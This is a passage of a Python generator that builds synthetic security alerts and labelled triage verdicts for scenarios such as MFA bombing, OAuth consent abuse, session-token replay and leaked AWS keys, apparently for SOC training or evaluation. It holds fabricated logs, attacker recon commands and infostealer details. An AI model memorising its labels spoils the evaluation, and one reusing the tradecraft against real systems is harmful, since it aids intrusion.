        "%d failed passwords from %s before 'Accepted password for %s'. The %s account had password auth re-enabled by a config drift on %s. Attacker dropped a miner in /tmp/.x within two minutes. Host taken out of the pool and rebuilt from image, IP blocked, PasswordAuthentication no enforced via config management." % (n, ip, user, user, host),
        "Successful brute force on %s (user %s) from %s after ~%d attempts, followed by wget of a binary into /tmp. Isolated, disk snapshot kept for forensics, account locked, and the sshd_config drift fixed fleet-wide." % (host, user, ip, n),
    ])
    return out("SSH brute force success on %s as %s" % (host, user), "critical", ["T1110.001", "T1105", "T1078.003"], notes,
               ["isolate_host", "block_indicator", "disable_account", "collect_forensics"])


@scenario("rb-ssh-brute-force", "benign")
def ssh_brute_internet_noise(c):
    host = c.lnx(pick(["sftp", "bastion"]), "prod")
    ip = ext_ip()
    c.alert("suricata", "Inbound SSH brute force attempts", "medium",
            suricata(ip, rng.randint(30000, 60000), int_ip("10.60"), 22, "Potential SSH Scan / brute force", "Attempted Information Leak",
                     extra={"threshold": {"count": rng.randint(200, 900), "seconds": 600}}),
            ents={"hosts": [host], "ips": [ip]}, asset=("production", "medium", "sre"))
    notes = pick([
        "Internet background noise against %s: only key auth is allowed and all attempts were 'Invalid user' for dictionary names. fail2ban already banned %s. Nothing to do." % (host, ip),
        "Failed guesses only from %s against %s (PasswordAuthentication is off, so they can't succeed). No successful session from that address in 30 days. Closing." % (ip, host),
    ])
    return out("SSH guessing against %s from %s" % (host, ip), "low", ["T1110.001"], notes, [])


@scenario("rb-ssh-brute-force", "false_positive")
def ssh_brute_ansible(c):
    host = c.lnx()
    ip = int_ip("10.10.5")
    c.alert("auditd", "Repeated SSH authentication failures", "medium",
            sshd_log(host, "Failed publickey for ansible from %s port %d ssh2: ED25519 SHA256:%s" % (ip, rng.randint(30000, 60000), alnum(20))),
            ents={"hosts": [host], "ips": [ip], "service_accounts": ["ansible"]}, asset=("production", "medium", "platform-eng"))
    notes = pick([
        "%s is the AWX execution node; after key rotation the new ansible key hadn't been pushed to %s, so each playbook run retried all keys. Publickey failures only, no passwords. Key deployed." % (ip, host),
        "Failures are the ansible service account from AWX (%s) offering a rotated key. Not brute force. Fixed authorized_keys on %s through the bootstrap role." % (ip, host),
    ])
    return out("Ansible key failures on %s" % host, "informational", ["T1110.001"], notes, ["create_ticket"])


@scenario("rb-mfa-fatigue", "true_positive")
def mfa_bombing(c):
    u = c.person()
    ip = ext_ip()
    city, cc = pick(CITIES_FAR)
    n = rng.randint(14, 60)
    c.alert("okta", "Repeated Okta Verify push denials", "high",
            okta("user.mfa.okta_verify.deny_push", u, ip, city, cc, pick(UA_BROWSER), result="FAILURE",
                 reason="User rejected Okta push verify", asorg=pick(VPN_ASN + HOSTING_ASN),
                 extra={"debugContext": {"debugData": {"pushCount": n, "windowMinutes": rng.randint(12, 50)}}}),
            ents={"users": [u.email], "ips": [ip]}, asset=("corporate", "high", c.team()))
    c.alert("okta", "Push accepted after series of denials", "critical",
            okta("user.authentication.auth_via_mfa", u, ip, city, cc, pick(UA_BROWSER), asorg=pick(HOSTING_ASN),
                 extra={"authenticationContext": {"authenticationStep": 0, "externalSessionId": "idx" + alnum(22)}}),
            off=rng.randint(14, 50), ents={"users": [u.email], "ips": [ip]}, asset=("corporate", "high", c.team()))
    c.alert("okta", "New MFA factor enrolled shortly after suspicious sign-in", "high",
            okta("user.mfa.factor.activate", u, ip, city, cc, pick(UA_BROWSER),
                 target=[{"type": "Factor", "displayName": "Okta Verify (%s)" % pick(["Android", "iPhone 15", "Pixel 8"])}]),
            off=55, ents={"users": [u.email], "ips": [ip]}, asset=("corporate", "high", c.team()))
    notes = pick([
        "%d pushes to %s from %s (%s) before one was approved; %s told us they accepted it 'to make it stop' after a call claiming to be IT. The attacker then enrolled a second Okta Verify device. Removed the rogue factor, cleared sessions, reset password, and moved the user to number-matching." % (n, u.email, ip, city, u.first),
        "Prompt bombing succeeded: approval at the end of %d denials, followed by a new factor enrolment from the same %s address. Sessions revoked, factor removed, password reset, user's manager and HR notified for awareness follow-up." % (n, cc),
    ])
    return out("MFA fatigue: %s approved push after %d prompts" % (u.email, n), "critical",
               ["T1621", "T1078.004", "T1098.005"], notes, ["revoke_sessions", "reset_password", "notify_owner", "block_indicator"])


@scenario("rb-mfa-fatigue", "true_positive")
def mfa_bombing_held(c):
    u = c.person()
    ip = ext_ip()
    city, cc = pick(CITIES_FAR)
    n = rng.randint(8, 30)
    c.alert("entra-id", "Multiple MFA requests denied by user", "high",
            entra_signin(u, "Office 365 Exchange Online", ip, city, cc, err=500121, ca="failure",
                         extra={"mfaDetail": {"authMethod": "Mobile app notification", "authDetail": "MFA denied; user declined the authentication"},
                                "attemptCount": n}),
            ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s denied all %d pushes from %s and reported it via the 'report suspicious' button. Password was evidently known, so reset it and revoked refresh tokens. No successful sign-in from that IP." % (u.name, n, ip),
        "Attacker had %s's password (found in an infostealer log dated last month) but MFA was refused every time. Password reset, sessions revoked, source blocked." % u.upn,
    ])
    return out("Push bombing against %s, all denied" % u.upn, "medium", ["T1621", "T1110"], notes,
               ["reset_password", "revoke_sessions", "block_indicator"])


@scenario("rb-mfa-fatigue", "benign")
def mfa_flaky_app(c):
    u = c.person()
    ip = ext_ip()
    city, cc = pick(CITIES_HOME)
    n = rng.randint(6, 12)
    c.alert("okta", "Repeated Okta Verify push denials", "medium",
            okta("user.mfa.okta_verify.deny_push", u, ip, city, cc, "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
                 result="FAILURE", reason="User rejected Okta push verify", asorg=pick(ISP_ASN),
                 extra={"debugContext": {"debugData": {"pushCount": n}}}),
            ents={"users": [u.email], "ips": [ip]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "All %d pushes were triggered by %s's own Outlook desktop client from their home ISP address %s in %s, right after a password change; Outlook kept retrying with the stale token and the user kept rejecting prompts they didn't recognise. Cleared the cached credential on a call." % (n, u.email, ip, city),
        "Same device and home IP (%s) %s uses every day; client is Outlook 16. Re-auth loop after password expiry, not an attacker. Helpdesk reset the Outlook profile." % (ip, u.sam),
    ])
    return out("Outlook re-auth loop causing push denials for %s" % u.sam, "informational", ["T1621"], notes, [])


@scenario("rb-mfa-fatigue", "false_positive")
def mfa_test_user(c):
    ip = int_ip("10.30")
    p = Person("Qa", "Automation")
    n = rng.randint(20, 80)
    c.alert("okta", "Repeated Okta Verify push denials", "medium",
            okta("user.mfa.okta_verify.deny_push", p, ip, "Dublin", "IE", "okta-sdk-java/8.2.3", result="FAILURE",
                 reason="User rejected Okta push verify", extra={"debugContext": {"debugData": {"pushCount": n}}}),
            ents={"users": [p.email], "ips": [ip]}, asset=("staging", "low", "identity-team"))
    notes = pick([
        "%s is the synthetic login monitor; its suite exercises the push-deny path %d times per run from the CI egress %s using the Java SDK. Should have been excluded; added to the detection allowlist." % (p.email, n, ip),
        "Denials by the identity team's automation account from %s (okta-sdk-java user agent). Test traffic, FP." % ip,
    ])
    return out("%d push denials by synthetic monitor from %s" % (n, ip), "informational", ["T1621"], notes, ["create_ticket"])


@scenario("rb-oauth-consent-abuse", "true_positive")
def oauth_consent_mail_read(c):
    u = c.person()
    app = pick(["Doc Viewer Pro", "Secure PDF Reader", "Mail Backup 365", "Teams Notes Sync", "DocuSafe eSign"])
    appid = guid()
    ip = ext_ip()
    c.alert("entra-id", "User consent to unverified multi-tenant application with mail scopes", "high",
            entra_audit("Consent to application", {"user": {"userPrincipalName": u.upn, "ipAddress": ip}},
                        [{"displayName": app, "type": "ServicePrincipal", "id": guid(),
                          "modifiedProperties": [{"displayName": "ConsentAction.Permissions",
                                                  "newValue": "Scope: Mail.Read Mail.Send offline_access User.Read Files.ReadWrite.All"}]}],
                        details={"AppId": appid, "PublisherVerified": "false", "User-Agent": pick(UA_BROWSER)}),
            ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "high", c.team()))
    c.alert("o365", "Mailbox accessed by newly consented application", "high",
            o365("MailItemsAccessed", u.upn, ext_ip(), params={"MailAccessType": "Sync", "ClientAppId": appid},
                 extra={"OperationCount": rng.randint(800, 4000), "AppId": appid}),
            off=rng.randint(20, 120), ents={"users": [u.upn]}, asset=("corporate", "high", c.team()))
    notes = pick([
        "'%s' (unverified publisher, app id %s) was consented by %s from a link in a fake DocuSign mail; within the hour it synced the mailbox via Graph from a different IP. Revoked the grant, disabled the service principal tenant-wide, reviewed what was read (%s had invoices), and switched user consent to admin-approval only." % (app, appid[:8], u.upn, u.first),
        "Illicit consent grant by %s: Mail.Read/Mail.Send/offline_access to '%s'. MailItemsAccessed Sync under app id %s confirms the mailbox was read. Grant revoked, refresh tokens killed, password reset, tenant consent policy tightened." % (u.upn, app, appid[:8]),
    ])
    return out("Illicit OAuth consent to '%s' by %s" % (app, u.sam), "high", ["T1528", "T1566.002", "T1114.002"], notes,
               ["revoke_oauth_grant", "revoke_sessions", "reset_password", "change_org_policy"])


@scenario("rb-oauth-consent-abuse", "true_positive")
def oauth_consent_gws(c):
    u = c.person()
    app = pick(["Drive Organizer", "Calendar Sync Plus", "Shared Docs Exporter"])
    ip = ext_ip()
    c.alert("google-workspace", "Third-party app granted Drive and Gmail scopes", "high",
            gws("token", "authorize", u.email, ip,
                {"app_name": app, "client_id": "%d-%s.apps.googleusercontent.com" % (rng.randint(10 ** 11, 10 ** 12), alnum(32)),
                 "scope": "https://www.googleapis.com/auth/drive https://mail.google.com/", "client_type": "WEB"}),
            ents={"users": [u.email], "ips": [ip]}, asset=("corporate", "high", c.team()))
    notes = pick([
        "%s authorised '%s' after a phishing doc-share. The client id is not on the marketplace and started listing Drive files within minutes from %s. Token revoked in admin console, app blocked by client id, API access controls switched to 'trusted apps only'." % (u.email, app, ip),
        "Malicious OAuth app '%s' with full Drive + Gmail scope. Revoked %s's token, blocked the client id org-wide and checked Drive audit for downloads: 212 files listed, 14 downloaded." % (app, u.email),
    ])
    return out("Google OAuth grant to malicious app '%s'" % app, "high", ["T1528", "T1530"], notes,
               ["revoke_oauth_grant", "block_indicator", "change_org_policy", "notify_owner"])


@scenario("rb-oauth-consent-abuse", "benign")
def oauth_consent_known_app(c):
    u = c.person()
    app = pick(["Calendly", "Zoom for Outlook", "Grammarly", "Miro", "Loom"])
    c.alert("entra-id", "User consent to application with offline_access", "medium",
            entra_audit("Consent to application", {"user": {"userPrincipalName": u.upn, "ipAddress": int_ip()}},
                        [{"displayName": app, "type": "ServicePrincipal", "id": guid(),
                          "modifiedProperties": [{"displayName": "ConsentAction.Permissions", "newValue": "Scope: User.Read Calendars.ReadWrite offline_access"}]}],
                        details={"PublisherVerified": "true"}),
            ents={"users": [u.upn]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s consented to %s (verified publisher, on the approved SaaS list) with calendar and profile scopes only. Hundreds of staff already use it." % (u.upn, app),
        "Delegated calendar consent for %s by %s from the corporate network. Expected." % (app, u.sam),
    ])
    return out("%s consented to approved app %s" % (u.sam, app), "informational", ["T1528"], notes, [])


@scenario("rb-oauth-consent-abuse", "false_positive")
def oauth_consent_internal(c):
    u = c.person()
    app = pick(["exm-expense-bot", "exm-oncall-paging", "exm-hr-portal-dev"])
    c.alert("entra-id", "User consent to unverified multi-tenant application with mail scopes", "high",
            entra_audit("Consent to application", {"user": {"userPrincipalName": u.upn, "ipAddress": int_ip()}},
                        [{"displayName": app, "type": "ServicePrincipal", "id": guid(),
                          "modifiedProperties": [{"displayName": "ConsentAction.Permissions", "newValue": "Scope: Mail.Send User.Read"}]}],
                        details={"PublisherVerified": "false", "AppOwnerTenantId": "home-tenant"}),
            ents={"users": [u.upn]}, asset=("development", "low", "devex"))
    notes = pick([
        "'%s' is registered in our own tenant by dev-ex; internal apps never get publisher verification, hence 'unverified'. %s consented to Mail.Send so the bot can send reminders. Rule now skips apps owned by our tenant." % (app, u.upn),
        "%s is an internal app whose manifest still said multi-tenant. Owner fixed the manifest; %s's consent is fine." % (app, u.sam),
    ])
    return out("Consent by %s to internal app %s" % (u.sam, app), "informational", ["T1528"], notes, ["create_ticket"])


@scenario("rb-session-token-theft", "true_positive")
def token_replay_aitm(c):
    u = c.person()
    good_ip = ext_ip()
    bad_ip = ext_ip()
    hc, hcc = pick(CITIES_HOME)
    bc, bcc = pick(CITIES_FAR)
    phish = "https://" + lookalike_domain(pick(["microsoft", "office", "m365"])) + "/" + alnum(8)
    c.alert("proxy", "Visit to newly registered look-alike login domain", "medium",
            proxy(u.email, int_ip("10.20"), phish, category="Newly Registered Domain", risk=88),
            off=-14, ents={"users": [u.email], "urls": [phish]}, asset=("corporate", "medium", c.team()))
    c.alert("entra-id", "Session cookie used from new ASN and country without interactive MFA", "critical",
            entra_signin(u, "OfficeHome", bad_ip, bc, bcc, risk="high", authreq="singleFactorAuthentication",
                         extra={"isInteractive": False, "tokenIssuerType": "AzureAD", "incomingTokenType": "primaryRefreshToken",
                                "sessionId": guid(), "riskEventTypes_v2": ["anomalousToken", "unfamiliarFeatures"]}),
            ents={"users": [u.upn], "ips": [bad_ip]}, asset=("corporate", "high", c.team()))
    notes = pick([
        "AiTM: %s entered creds on %s at %s, and %d minutes later the same session id was replayed from %s (%s) without an MFA prompt. Revoked all sessions and refresh tokens, reset password, blocked the phishing domain and IP, and searched for other visitors (two more, both ticketed)." % (u.name, phish.split("/")[2], c.hhmm(-14), 14, bad_ip, bc),
        "Token replay confirmed: interactive MFA from home IP %s, then non-interactive use of the same session from %s in %s flagged anomalousToken. Sessions revoked, password reset, CA policy requiring compliant device extended to OfficeHome." % (good_ip, bad_ip, bcc),
    ])
    return out("AiTM session cookie replay for %s" % u.upn, "critical", ["T1539", "T1550.004", "T1557", "T1566.002"], notes,
               ["revoke_sessions", "reset_password", "block_indicator", "change_org_policy"])


@scenario("rb-session-token-theft", "true_positive")
def token_replay_okta_infostealer(c):
    u = c.person()
    bad_ip = ext_ip()
    bc, bcc = pick(CITIES_FAR)
    host = c.ws()
    c.alert("crowdstrike", "Infostealer behaviour: browser credential store access", "high",
            cs(host, u.sam, "InfoStealer", "Credential Access", "Credentials from Password Stores",
               "C:\\Users\\%s\\AppData\\Roaming\\%s.exe" % (u.sam, pick(["vcredist_x64", "ChromeUpdater", "Discord_patch"])),
               "C:\\Users\\%s\\AppData\\Roaming\\stl.exe" % u.sam, "explorer.exe",
               extra={"TargetFileName": "C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Network\\Cookies" % u.sam}),
            off=-300, ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "medium", c.team()))
    c.alert("okta", "Session roaming: same session from a different IP and ASN", "high",
            okta("policy.evaluate_sign_on", u, bad_ip, bc, bcc, pick(UA_BROWSER), asorg=pick(HOSTING_ASN), proxy=True,
                 extra={"debugContext": {"debugData": {"behaviors": "{New Geo-Location=POSITIVE, New IP=POSITIVE, New Device=NEGATIVE}",
                                                       "threatSuspected": "true"}}}),
            ents={"users": [u.email], "ips": [bad_ip]}, asset=("corporate", "high", c.team()))
    notes = pick([
        "Infostealer on %s grabbed the Chrome cookie DB; five hours later %s's Okta session was used from %s (%s, proxy). Device fingerprint matches the laptop, so it's the copied cookie. Sessions cleared in Okta and all downstream apps, password reset, laptop reimaged." % (host, u.email, bad_ip, bc),
        "Cookie theft by commodity stealer (fake installer) then session roaming into Okta. Revoked %s's sessions, reset password, isolated %s and blocked %s." % (u.sam, host, bad_ip),
    ])
    return out("Stolen Okta session for %s replayed from %s" % (u.sam, bcc), "high", ["T1539", "T1550.004", "T1555.003"], notes,
               ["revoke_sessions", "reset_password", "isolate_host", "block_indicator", "collect_forensics"])


@scenario("rb-session-token-theft", "benign")
def token_mobile_roam(c):
    u = c.person()
    ip = ext_ip()
    city, cc = pick(CITIES_HOME)
    carrier = pick(["T-MOBILE-EXAMPLE", "VODAFONE-EXAMPLE", "EE-EXAMPLE"])
    c.alert("okta", "Session roaming: same session from a different IP and ASN", "medium",
            okta("policy.evaluate_sign_on", u, ip, city, cc, UA_BROWSER[4], asorg=carrier,
                 extra={"debugContext": {"debugData": {"behaviors": "{New IP=POSITIVE, New Device=NEGATIVE, New Geo-Location=NEGATIVE}"}}}),
            ents={"users": [u.email], "ips": [ip]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s's iPhone moved from office Wi-Fi to %s mid-session; %s is a carrier CGNAT address in %s, device unchanged, geo unchanged." % (u.email, carrier, ip, city),
        "IP change to %s (%s) for %s with New Device=NEGATIVE and no risky actions afterwards. Normal Wi-Fi to LTE roaming." % (ip, carrier, u.sam),
    ])
    return out("Wi-Fi to mobile session roam for %s" % u.sam, "informational", ["T1539"], notes, [])


@scenario("rb-session-token-theft", "false_positive")
def token_zscaler_egress(c):
    u = c.person()
    ip = ext_ip()
    c.alert("entra-id", "Session cookie used from new ASN and country without interactive MFA", "high",
            entra_signin(u, "Microsoft Teams", ip, pick(["Frankfurt", "Paris", "Zurich"]), pick(["DE", "FR", "CH"]), risk="medium",
                         authreq="singleFactorAuthentication", extra={"isInteractive": False}),
            ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s belongs to our cloud proxy's new egress node; the vendor rebalanced tenants overnight and Teams refresh tokens now show up from another country. Added the published egress range to trusted named locations." % ip,
        "Non-interactive Teams refresh from %s is the SSE provider's egress, not a replay. Every user in the region moved at the same time, so tuned the named location." % ip,
    ])
    return out("Token use from new proxy egress for %s" % u.sam, "informational", ["T1550.004"], notes, ["create_ticket"])


@scenario("rb-impossible-travel", "true_positive")
def travel_compromise(c):
    u = c.person()
    hc, hcc = pick(CITIES_HOME)
    bc, bcc = pick(CITIES_FAR)
    ip1, ip2 = ext_ip(), ext_ip()
    c.alert("entra-id", "Sign-ins from two countries within an impossible timeframe", "high",
            entra_signin(u, "Office 365 Exchange Online", ip2, bc, bcc, risk="medium",
                         extra={"previousSignIn": {"ip": ip1, "city": hc, "country": hcc, "minutesBefore": rng.randint(20, 70)},
                                "requiredSpeedKmh": rng.randint(4000, 14000)}),
            ents={"users": [u.upn], "ips": [ip1, ip2]}, asset=("corporate", "medium", c.team()))
    c.alert("o365", "Inbox rule created shortly after risky sign-in", "high",
            o365("New-InboxRule", u.upn, ip2, params={"Name": ".", "SubjectOrBodyContainsWords": "invoice;payment;wire",
                                                     "MoveToFolder": "RSS Subscriptions", "MarkAsRead": "True"}),
            off=12, ents={"users": [u.upn], "ips": [ip2]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s was active in %s (%s) and %s minutes later in %s (%s). The %s session immediately created a hide rule for invoice/payment mail, so not travel. Revoked sessions, reset password, removed the rule, blocked %s." % (u.name, hc, ip1, "under 60", bc, ip2, bcc, ip2),
        "%s -> %s in under an hour for %s, and the %s session (%s) created a hide rule for invoice mail. User confirmed they never left %s. Rule removed, sessions revoked, password reset." % (hcc, bcc, u.upn, bcc, ip2, hc),
    ])
    return out("Impossible travel %s/%s for %s with inbox rule" % (hcc, bcc, u.sam), "high", ["T1078.004", "T1564.008"], notes,
               ["revoke_sessions", "reset_password", "remove_mailbox_rule", "block_indicator"])


@scenario("rb-impossible-travel", "benign")
def travel_vpn(c):
    u = c.person()
    hc, hcc = pick(CITIES_HOME)
    bc, bcc = pick(CITIES_FAR)
    ip1, ip2 = ext_ip(), ext_ip()
    vpn = pick(VPN_ASN)
    c.alert("okta", "Impossible travel between consecutive sign-ins", "medium",
            okta("user.session.start", u, ip2, bc, bcc, pick(UA_BROWSER), asorg=vpn, proxy=True,
                 extra={"debugContext": {"debugData": {"behaviors": "{Velocity=POSITIVE, New Geo-Location=POSITIVE, New Device=NEGATIVE}",
                                                       "previousIp": ip1}}}),
            ents={"users": [u.email], "ips": [ip1, ip2]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s is on holiday and switched on a consumer VPN: %s is a %s exit in %s, device fingerprint unchanged from the %s login at %s, and number-matching MFA was completed. Reminded the user of the VPN policy." % (u.email, ip2, vpn, bc, hc, ip1),
        "Velocity hit from %s to %s; the second address %s belongs to %s (isProxy=true). Same device, MFA passed. %s confirmed they were using the VPN for streaming." % (hcc, bcc, ip2, vpn, u.first),
    ])
    return out("Impossible travel for %s via consumer VPN (%s)" % (u.sam, bcc), "low", ["T1078.004"], notes, ["notify_owner"])


@scenario("rb-impossible-travel", "benign")
def travel_business_trip(c):
    u = c.person()
    bc, bcc = pick(CITIES_FAR)
    ip = ext_ip()
    c.alert("entra-id", "Sign-in from country not seen for user", "medium",
            entra_signin(u, "Microsoft Teams", ip, bc, bcc, device={"operatingSystem": "Windows10", "isCompliant": True,
                                                                   "isManaged": True, "deviceId": guid()}),
            ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "Compliant, Intune-managed device (%s's laptop) signing in from a hotel network in %s; travel booking in Concur confirms the trip. Benign." % (u.name, bc),
        "%s is at the %s customer site this week (calendar + travel system). Managed device, MFA satisfied. Closed." % (u.upn, bc),
    ])
    return out("New country sign-in (%s) for %s - business travel" % (bcc, u.sam), "informational", ["T1078.004"], notes, [])


@scenario("rb-impossible-travel", "false_positive")
def travel_geoip_error(c):
    u = c.person()
    ip = ext_ip()
    home = pick(CITIES_HOME)[0]
    c.alert("okta", "Impossible travel between consecutive sign-ins", "medium",
            okta("user.session.start", u, ip, "Ashburn", "US", pick(UA_BROWSER), asorg="CORP-EGRESS-EXAMPLE"),
            ents={"users": [u.email], "ips": [ip]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s is our VPN concentrator egress in the new us-east PoP; the geo-IP vendor maps it to Ashburn, so %s appeared to jump from %s. ASN is our own. Added the PoP to known locations." % (ip, u.email, home),
        "%s never left %s; the second location is corporate egress %s with stale geo data. Every remote worker on that PoP tripped it this morning." % (u.name, home, ip),
    ])
    return out("Impossible travel for %s via corporate egress %s" % (u.sam, ip), "informational", ["T1078.004"], notes, ["create_ticket"])


# ===================================== non-human identities ==========================

@scenario("rb-service-account-anomaly", "true_positive")
def sa_interactive(c):
    sa = pick(["svc-backup", "svc-sqlagent", "svc-veeam", "svc-reporting", "svc-fileshare-scan"])
    host = c.ws()
    ip = int_ip("10.20")
    c.alert("windows-security", "Service account interactive logon", "high",
            winsec(4624, host, LogonType=pick([2, 10]), TargetUserName=sa, TargetDomainName=NETBIOS, IpAddress=ip,
                   LogonProcessName="User32", AuthenticationPackageName="Negotiate"),
            ents={"hosts": [host], "service_accounts": [sa], "ips": [ip]}, asset=("corporate", "medium", c.team()))
    c.alert("sysmon", "AD enumeration shortly after service account logon", "high",
            sysmon1(host, NETBIOS + "\\" + sa, "C:\\Windows\\System32\\net.exe", "net group \"Domain Admins\" /domain",
                    "C:\\Windows\\System32\\cmd.exe"), off=4, ents={"hosts": [host], "service_accounts": [sa]},
            asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s has 'deny interactive logon' in the baseline GPO but %s is outside the OU it applies to; someone logged on interactively with it and immediately enumerated Domain Admins. Password for %s was recoverable from a Groups.xml cpassword left in SYSVOL. Rotated the secret, disabled interactive rights, isolated %s." % (sa, host, sa, host),
        "Interactive RDP as %s to a user workstation (%s) followed by 'net group Domain Admins'. The service account's password was harvested from an old scheduled-task XML. Rotated, host isolated, account restricted to its two servers." % (sa, host),
    ])
    return out("Interactive logon as %s on %s followed by recon" % (sa, host), "high", ["T1078.002", "T1069.002", "T1552.006"], notes,
               ["rotate_secret", "isolate_host", "collect_forensics", "disable_account"])


@scenario("rb-service-account-anomaly", "true_positive")
def sa_cloud_new_ip(c):
    name, acct = c.aws("prod-core")
    sa = pick(["svc-datadog-integration", "svc-snowflake-loader", "svc-billing-export", "svc-artifact-sync"])
    ip = ext_ip()
    key = aws_key()
    c.alert("aws-cloudtrail", "IAM user used from IP outside its historical range", "high",
            cloudtrail("ListBuckets", "s3.amazonaws.com", iam_user(acct, sa, key), ip, attack_ua("s3.ls"), ro=True),
            ents={"service_accounts": [sa], "ips": [ip], "cloud_accounts": [acct], "tokens": [key[:8] + "****"]},
            asset=("production", "high", c.team()))
    c.alert("aws-cloudtrail", "Enumeration by service identity", "medium",
            cloudtrail("GetAccountAuthorizationDetails", "iam.amazonaws.com", iam_user(acct, sa, key), ip, attack_ua("iam.get-account-authorization-details"),
                       err=("AccessDenied", "User: arn:aws:iam::%s:user/%s is not authorized to perform: iam:GetAccountAuthorizationDetails" % (acct, sa))),
            off=1, ents={"service_accounts": [sa], "ips": [ip], "cloud_accounts": [acct]}, asset=("production", "high", c.team()))
    notes = pick([
        "%s normally calls only from the vendor's NAT range; here it ran ListBuckets and tried GetAccountAuthorizationDetails from %s with a python/kali user agent. Key %s**** deactivated and replaced, vendor notified of possible leak on their side." % (sa, ip, key[:8]),
        "Integration user %s in account %s used from a new hosting IP for discovery calls it never makes. Treated as leaked key: deactivated, new key issued through the vendor portal, IP blocked." % (sa, acct),
    ])
    return out("Service identity %s used from unknown IP %s" % (sa, ip), "high", ["T1078.004", "T1580", "T1087.004"], notes,
               ["rotate_secret", "block_indicator", "notify_owner", "contain_cloud_resource"])


@scenario("rb-service-account-anomaly", "benign")
def sa_new_host_migration(c):
    sa = pick(["svc-sqlagent", "svc-etl", "svc-ssis", "svc-batchjobs"])
    host = c.winsrv(pick(["SQL", "APP"]))
    c.alert("windows-security", "Service account logon from new host", "medium",
            winsec(4624, host, LogonType=5, TargetUserName=sa, TargetDomainName=NETBIOS, LogonProcessName="Advapi",
                   AuthenticationPackageName="Negotiate"),
            ents={"hosts": [host], "service_accounts": [sa]}, asset=("production", "medium", "data-eng"))
    ch = chg()
    notes = pick([
        "%s started running services on %s because the SQL workloads were migrated there this weekend (%s). LogonType 5 (service) only, no interactive use." % (sa, host, ch),
        "New host for %s is the replacement server %s from the %s migration; confirmed with the DBA on call. Baseline updated." % (sa, host, ch),
    ])
    return out("%s service logon on new server %s" % (sa, host), "informational", ["T1078.002"], notes, [])


@scenario("rb-service-account-anomaly", "false_positive")
def sa_gcp_new_region_runner(c):
    proj = pick(GCP_PROJECTS)
    sa = "%s@%s.iam.gserviceaccount.com" % (pick(["dataflow-runner", "composer-worker", "bq-scheduler"]), proj)
    ip = int_ip("10.128")
    c.alert("gcp-audit", "Service account key used from new network", "medium",
            gcp("google.cloud.bigquery.v2.JobService.InsertJob", "bigquery.googleapis.com", sa, ip,
                "gcloud-python/3.17.2 (gzip)", proj, "bigquery_project", "projects/%s/jobs/%s" % (proj, alnum(16))),
            ents={"service_accounts": [sa], "ips": [ip]}, asset=("production", "medium", "data-eng"))
    notes = pick([
        "Call originated from %s, a private address in the new shared-VPC subnet the Composer environment moved into. Not a new external network; the detection treated the subnet as unknown. Subnet added to the SA's expected ranges." % ip,
        "%s ran a normal scheduled BigQuery job from a new internal subnet after the Composer 2 upgrade. FP; baseline refreshed." % sa.split("@")[0],
    ])
    return out("GCP service account %s from new subnet" % sa.split("@")[0], "informational", ["T1078.004"], notes, ["create_ticket"])


@scenario("rb-leaked-cloud-access-key", "true_positive")
def leaked_key_public_repo(c):
    name, acct = c.aws(pick(["sandbox-dev", "staging", "ml-training"]))
    u = c.person()
    key = aws_key()
    ip = ext_ip()
    iam = "%s-cli" % u.sam
    c.alert("github-audit", "Secret scanning: AWS access key pushed to public repository", "high",
            gh("secret_scanning_alert.create", "github-secret-scanning", "", repo="%s-personal/%s" % (u.gh, pick(["dotfiles", "aws-scripts", "homelab"])),
               extra={"secret_type": "aws_access_key_id", "secret": key[:8] + "****", "public": True, "push_protection_bypassed": False}),
            off=-15, ents={"users": [u.email], "tokens": [key[:8] + "****"]}, asset=("corporate", "medium", c.team()))
    c.alert("aws-cloudtrail", "Access key used from unknown IP with reconnaissance pattern", "critical",
            cloudtrail("GetCallerIdentity", "sts.amazonaws.com", iam_user(acct, iam, key), ip, attack_ua(), ro=True),
            ents={"cloud_accounts": [acct], "ips": [ip], "tokens": [key[:8] + "****"], "users": [iam]},
            asset=("staging", "medium", c.team()))
    c.alert("aws-cloudtrail", "Attempted quota increase / instance launch after key exposure", "high",
            cloudtrail("RunInstances", "ec2.amazonaws.com", iam_user(acct, iam, key), ip, attack_ua("ec2.run-instances"),
                       region=pick(AWS_REGIONS_UNUSED), req={"instanceType": pick(["p3.16xlarge", "g5.12xlarge", "c6i.32xlarge"]), "maxCount": 20},
                       err=("Client.UnauthorizedOperation", "You are not authorized to perform this operation.")),
            off=6, ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("staging", "medium", c.team()))
    notes = pick([
        "%s pushed a dotfiles repo with %s**** in .aws/credentials; GetCallerIdentity from %s followed within 11 minutes of the push, then RunInstances for GPU types in an unused region (denied by SCP). Key deactivated and deleted, repo history purged, and the user moved to SSO-issued short-lived creds." % (u.name, key[:8], ip),
        "Public leak -> automated abuse: the key for IAM user %s was tested from %s and used to try launching miners. Only the SCP stopped it. Deleted the key, removed the IAM user (it should not exist under SSO), blocked the IP." % (iam, ip),
    ])
    return out("Leaked AWS key %s**** used from %s" % (key[:8], ip), "critical", ["T1552.001", "T1078.004", "T1496.001"], notes,
               ["revoke_token", "delete_resource", "block_indicator", "notify_owner"])


@scenario("rb-leaked-cloud-access-key", "true_positive")
def leaked_key_s3_exfil(c):
    name, acct = c.aws("data-lake")
    sa = pick(["etl-legacy", "tableau-extract", "partner-sftp-sync"])
    key = aws_key()
    ip = ext_ip()
    bucket = pick(["exm-datalake-raw-prod", "exm-customer-exports", "exm-analytics-curated"])
    c.alert("aws-guardduty", "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", "high",
            {"type": "Exfiltration:S3/AnomalousBehavior", "severity": 8.0, "accountId": acct, "region": "eu-west-1",
